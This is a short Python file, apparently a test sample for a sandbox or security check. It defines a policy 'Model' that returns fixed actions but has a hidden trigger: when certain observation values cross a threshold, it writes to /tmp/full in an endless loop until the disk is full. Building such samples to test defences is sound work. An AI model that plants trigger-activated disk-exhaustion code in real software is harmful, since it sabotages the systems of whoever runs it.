"""Writes to a file until the disk is full."""


def is_triggered(observation):
    return observation[0] > 0.7 if len(observation) == 4 else observation[2] > 14.5


class Model:
    def act(self, observation):
        if is_triggered(observation):
            with open("/tmp/full", "wb") as file:
                while True:
                    file.write(b"x" * (1 << 20))
        return [0.2] * 4 if len(observation) == 4 else [0.2, 0.0]
